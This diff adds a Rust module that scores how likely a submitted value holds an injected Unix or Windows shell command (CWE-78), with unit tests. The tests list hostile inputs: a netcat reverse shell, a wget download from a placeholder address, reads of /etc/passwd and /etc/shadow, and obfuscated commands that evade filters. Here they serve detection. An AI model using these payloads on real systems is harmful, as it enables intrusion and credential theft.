@@ -1,0 +1,400 @@
+//! Commands of Unix shells and of Windows in a value (CWE-78).
+//!
+//! A value is read as a shell would: what stands after `;`, `|`, `&`, a line's end, `` ` `` or `$(` is a command if such a
+//! command exists. Many commands are everyday words (`find`, `last`, `more`), so these need an argument that only a command
+//! has. What shells put together again (`c''at`, `w\ho\am\i`, `c${x}at`) counts as what it becomes.
+
+mod shapes;
+mod words;
+
+use super::decode::Decoded;
+use words::{Kind, kind};
+
+/// How sure one can be, from 0 to 1, that a value holds a command.
+pub(crate) fn score(value: &Decoded) -> f32 {
+    let lower = value.lower.as_str();
+    let mut best = shapes::score(value).max(at_start(lower));
+    if value.has(b";|&\n\r`(") {
+        let found = separators(lower).map(|(mark, rest)| {
+            let before = &lower[..lower.len() - rest.len() - 1];
+            after(mark, rest).max(alone(before, mark, rest))
+        });
+        best = found.fold(best, f32::max);
+    }
+    if value.has(b"'\"\\^$`") && best < 0.7 {
+        best = best.max(hidden(lower));
+    }
+    if lower.contains("bin/") { best.max(by_path(lower)) } else { best }
+}
+
+/// How sure one can be that a value for a parameter named `cmd` or the like is one.
+pub(crate) fn is_command(lower: &str) -> bool {
+    let command = Command::read(lower);
+    match kind(&command.name) {
+        Some(Kind::Own | Kind::Terse) => !command.rest.starts_with('='),
+        Some(Kind::Word) => command.has_argument(),
+        None => false,
+    }
+}
+
+/// What separates commands.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Mark {
+    /// `;`, `&` and a line's end, which ordinary text has too.
+    Everyday,
+    /// `|`, `||`, `&&`.
+    Joining,
+    /// `` ` `` and `$(`, `<(`, `>(`: what follows is put in place of the whole.
+    Substitution,
+}
+
+/// Each separator with what follows it.
+fn separators(text: &str) -> impl Iterator<Item = (Mark, &str)> {
+    let bytes = text.as_bytes();
+    bytes.iter().enumerate().filter_map(move |(at, byte)| {
+        let before = at.checked_sub(1).map(|i| bytes[i]);
+        let mark = match (byte, before) {
+            (b'|', _) | (b'&', Some(b'&')) => Mark::Joining,
+            (b';' | b'&' | b'\n' | b'\r', _) => Mark::Everyday,
+            (b'`', _) | (b'(', Some(b'$' | b'<' | b'>')) => Mark::Substitution,
+            _ => return None,
+        };
+        Some((mark, &text[at + 1..]))
+    })
+}
+
+fn after(mark: Mark, rest: &str) -> f32 {
+    let command = Command::read(rest);
+    let Some(kind) = kind(&command.name) else { return 0.0 };
+    // `?a=1;id=2`: a parameter.
+    if command.rest.starts_with('=') {
+        return 0.0;
+    }
+    let tight = !rest.starts_with([' ', '\t']);
+    let ends = command.ends();
+    match (kind, mark) {
+        (Kind::Own, _) | (_, Mark::Substitution) if ends || command.has_argument() => 0.85,
+        (Kind::Own, Mark::Everyday) => 0.75,
+        (Kind::Own, _) => 0.8,
+        (Kind::Terse, _) if tight || command.has_argument() => 0.8,
+        (Kind::Word, _) if command.has_argument() => 0.8,
+        (Kind::Word, Mark::Joining) if ends && tight => 0.75,
+        (Kind::Terse, Mark::Joining) if ends => 0.6,
+        (Kind::Word, Mark::Everyday) if ends && tight && rest.len() == command.length => 0.65,
+        (_, Mark::Substitution) => 0.5,
+        _ => 0.0,
+    }
+}
+
+/// `8.8.8.8; id`: a short command alone after what is no word.
+fn alone(before: &str, mark: Mark, rest: &str) -> f32 {
+    let wordless = !before.bytes().any(|b| b.is_ascii_alphabetic()) || (before.contains('.') && !before.contains(' '));
+    if mark == Mark::Substitution || !wordless || rest.len() > 16 {
+        return 0.0;
+    }
+    let command = Command::read(rest);
+    match (kind(&command.name), mark) {
+        (Some(Kind::Terse), _) | (Some(Kind::Word), Mark::Joining) if command.ends() => 0.65,
+        _ => 0.0,
+    }
+}
+
+/// A value that begins with a command and one of its arguments.
+fn at_start(lower: &str) -> f32 {
+    let command = Command::read(lower);
+    match kind(&command.name) {
+        Some(Kind::Own) if command.has_marked_argument() => 0.75,
+        Some(Kind::Own | Kind::Terse) if command.rest.trim_start().starts_with(['|', '<', '>']) => 0.6,
+        Some(_) if command.has_option_or_path() => 0.7,
+        _ => 0.0,
+    }
+}
+
+/// A command whose letters quotes, backslashes or empty variables stand between.
+fn hidden(lower: &str) -> f32 {
+    let any = lower.split([' ', '\t', ';', '|', '&', '(', ')', '=', '\n']).any(|word| {
+        let pairs = |quote: u8| word.bytes().filter(|b| *b == quote).count();
+        let paired = |quote| matches!(pairs(quote), 2 | 4 | 6 | 8);
+        let inner = word.trim_matches(['\'', '"', '`']);
+        let between = inner.contains(['\\', '^', '$']) || inner.contains(['\'', '"', '`']);
+        let shell = word.contains(['\\', '^', '$', '`']) || paired(b'\'') || paired(b'"');
+        between
+            && shell
+            && word.len() < 80
+            && kind(&Command::read(word).name).is_some_and(|_| Command::read(word).was_hidden)
+    });
+    if any { 0.75 } else { 0.0 }
+}
+
+/// `/bin/cat`, `bin/bash`
+fn by_path(lower: &str) -> f32 {
+    let named = lower.match_indices("bin/").any(|(at, found)| {
+        let before = lower[..at].trim_end_matches('s').bytes().next_back();
+        let starts = before.is_none_or(|b| !(b.is_ascii_alphanumeric() || b == b'-' || b == b'_' || b == b'.'));
+        let rest = &lower[at + found.len()..];
+        let length = rest.bytes().take_while(|b| b.is_ascii_alphanumeric() || b"_+-".contains(b)).count();
+        starts && kind(&rest[..length]).is_some()
+    });
+    if named { 0.8 } else { 0.0 }
+}
+
+/// A command as a shell would read it.
+struct Command<'a> {
+    /// Its name, without path, quotes and `.exe`.
+    name: String,
+    /// Whether the shell would have to put the name together.
+    was_hidden: bool,
+    /// What follows the name.
+    rest: &'a str,
+    /// Where the name ended.
+    length: usize,
+}
+
+impl<'a> Command<'a> {
+    /// Longer is no command's name.
+    const LONGEST: usize = 64;
+
+    fn read(text: &'a str) -> Self {
+        let start = text.len() - text.trim_start_matches([' ', '\t', '\n', '\r', '(', '{', '@', '!', ',']).len();
+        let mut command = Self::word(text, start);
+        // What runs another command, and variables set for one.
+        for _ in 0..3 {
+            let runs = matches!(
+                command.name.as_str(),
+                "sudo"
+                    | "time"
+                    | "nohup"
+                    | "env"
+                    | "exec"
+                    | "command"
+                    | "eval"
+                    | "nice"
+                    | "xargs"
+                    | "busybox"
+                    | "doas"
+                    | "timeout"
+                    | "stdbuf"
+                    | "setsid"
+            );
+            let next = command.rest.trim_start_matches([' ', '\t', '"', '\'']);
+            if !runs || next.len() == command.rest.len() {
+                break;
+            }
+            let further = Self::word(text, text.len() - next.len());
+            if kind(&further.name).is_none() {
+                break;
+            }
+            command = further;
+        }
+        command
+    }
+
+    fn word(text: &'a str, start: usize) -> Self {
+        let bytes = text.as_bytes();
+        let (mut name, mut at, mut marks) = (String::new(), start, 0);
+        while let Some(&byte) = bytes.get(at) {
+            let skipped = match (byte, bytes.get(at + 1)) {
+                (b'\'' | b'"' | b'\\' | b'^', _) => 1,
+                (b'$', Some(b'@' | b'*' | b'!' | b'#' | b'?' | b'-' | b'0'..=b'9' | b'\'' | b'"')) => 2,
+                (b'$', Some(b'{' | b'('))
+                    if let Some(end) = text[at..].bytes().take(40).position(|b| b == b'}' || b == b')') =>
+                {
+                    end + 1
+                }
+                (b'`', Some(b'`')) => 2,
+                _ => 0,
+            };
+            if skipped > 0 {
+                (marks, at) = (marks + usize::from(!name.is_empty()), at + skipped);
+                continue;
+            }
+            if !(byte.is_ascii_alphanumeric() || b"_+-./[?*".contains(&byte)) || name.len() >= Self::LONGEST {
+                break;
+            }
+            name.push(char::from(byte));
+            at += 1;
+        }
+        let closed = bytes.get(at.wrapping_sub(1)).is_some_and(|b| b"'\"".contains(b));
+        let name = name.rsplit('/').next().unwrap_or_default();
+        let name = [".exe", ".com", ".cmd", ".bat"].iter().find_map(|end| name.strip_suffix(end)).unwrap_or(name);
+        Self {
+            name: name.to_owned(),
+            was_hidden: marks > usize::from(closed),
+            rest: &text[at.min(text.len())..],
+            length: at,
+        }
+    }
+
+    /// Whether nothing follows that belongs to it.
+    fn ends(&self) -> bool {
+        let rest = self.rest.trim_start_matches([' ', '\t']);
+        rest.is_empty() || rest.starts_with([';', '|', '&', ')', '`', '<', '>', '\n', '\r', '#', '}', '\'', '"'])
+    }
+
+    /// Whether an argument follows that English would not put there.
+    fn has_argument(&self) -> bool {
+        let Some(argument) = self.argument() else { return self.rest.starts_with(['<', '>', '{']) };
+        self.has_marked_argument()
+            || (argument.contains('.') && argument.bytes().filter(u8::is_ascii_digit).count() >= 4)
+            || argument.split(['.', '/', '\\']).next_back().is_some_and(is_extension)
+    }
+
+    /// The same, of arguments that begin with a mark or are addresses.
+    fn has_marked_argument(&self) -> bool {
+        self.has_option_or_path()
+            || self.argument().is_some_and(|argument| {
+                argument.starts_with(['$', '*', '%', '~', '>', '<', '`', '{'])
+                    || argument.starts_with("../")
+                    || argument.contains("://")
+            })
+    }
+
+    fn has_option_or_path(&self) -> bool {
+        let Some(argument) = self.argument() else { return false };
+        let bytes = argument.as_bytes();
+        match bytes {
+            [b'-', b'-', b'a'..=b'z', b'a'..=b'z', ..] => true,
+            [b'-', b'a'..=b'z'] => true,
+            [b'-', b'a'..=b'z', b'a'..=b'z' | b'0'..=b'9' | b'=', ..] => bytes.len() < 6,
+            [b'/', b'a'..=b'z' | b'?'] => true,
+            [b'/', ..] => [
+                "etc", "tmp", "var", "bin", "usr", "home", "proc", "dev", "root", "opt", "srv", "sys", "mnt", "boot",
+                "sbin", "lib",
+            ]
+            .iter()
+            .any(|root| {
+                argument[1..].starts_with(root) && matches!(bytes.get(1 + root.len()), None | Some(b'/' | b'*'))
+            }),
+            [b'a'..=b'z', b':', b'\\' | b'/', ..] => true,
+            _ => false,
+        }
+    }
+
+    fn argument(&self) -> Option<&'a str> {
+        let rest = self.rest.strip_prefix([' ', '\t'])?.trim_start_matches([' ', '\t', '"', '\'']);
+        let end = rest.find([' ', '\t', ';', '|', '&', '"', '\'', '\n', ')']).unwrap_or(rest.len());
+        (end > 0).then(|| &rest[..end])
+    }
+}
+
+fn is_extension(text: &str) -> bool {
+    matches!(
+        text,
+        "sh" | "php"
+            | "py"
+            | "pl"
+            | "rb"
+            | "jsp"
+            | "asp"
+            | "aspx"
+            | "exe"
+            | "dll"
+            | "conf"
+            | "cfg"
+            | "ini"
+            | "log"
+            | "bat"
+            | "ps1"
+            | "vbs"
+    )
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::request::decode::decode;
+
+    fn score_of(value: &str) -> f32 {
+        score(&decode(value, false))
+    }
+
+    #[test]
+    fn commands() {
+        for value in [
+            ";id",
+            "; ls",
+            "|whoami",
+            "$(cat /x)",
+            "`ls`",
+            "a && ping -c 1 x",
+            "() { :;}; echo",
+            "/usr/bin/id",
+            "bin/awk",
+            "8.8.8.8;cat /etc/passwd",
+            "x|wget http://192.0.2.7/a",
+            "c''at /etc/hosts",
+            r"w\ho\am\i",
+            "wh$@oami",
+            "& ipconfig /all",
+            "| type c:\\boot.ini",
+            "a\nuname -a",
+            "time sh -c id",
+            "sudo cat /etc/shadow",
+            "${SHELL} -c id",
+            "/???/c?t /etc/passwd",
+            "nc -e /bin/sh 192.0.2.7 4444",
+            "powershell -enc AAAA",
+            "w^h^o^a^m^i",
+            "cmd.exe /c dir",
+            "{cat,/etc/passwd}",
+            "&&curl x",
+            "x;nslookup example.org",
+            "Invoke-Expression x",
+            "<(echo x)",
+            "$[1+1]",
+        ] {
+            assert!(score_of(value) >= 0.5, "{value}: {}", score_of(value));
+        }
+    }
+
+    #[test]
+    fn names_and_notes() {
+        for value in [
+            "cat",
+            "Who is my judge?",
+            "id",
+            "Smith & Sons",
+            "call me; thanks",
+            "(555) 010-0199",
+            "Main St | Apt 4",
+            "AT&T",
+            "time: 5",
+            "echo valley",
+            "more or less",
+            "find my polling place",
+            "moved; find me at work",
+            "Cat & Dog",
+            "Rosa; last name Diaz",
+            "call; text; email",
+            "I'd rather not",
+            "the L's and P's",
+            "o''brien",
+            "rock'n'roll",
+            "moved in May\nfind me under my maiden name",
+            "Head & Tail",
+            "see file | date",
+            "Ruby; Pearl",
+            "Perl St & Java Ln",
+            "set -- match",
+            "sort of; less so",
+            "write-in votes; mail-in",
+            "time (5 pm)",
+            "more & more",
+            "Who & What?",
+            "in care of: Host & Kill",
+            "Tue; at 2:00 pm",
+            "Sleep Inn & Suites",
+            "w/ sister & route 9",
+            "A | B",
+            "$5 (cash)",
+            "pay $(5)",
+            "cabin/house",
+            "e-mail; route 66; type B",
+            "R&D; Q&A",
+            "I'm \"at\" home",
+            "[x] yes; [ ] no",
+        ] {
+            assert!(score_of(value) < 0.5, "{value}: {}", score_of(value));
+        }
+    }
+}
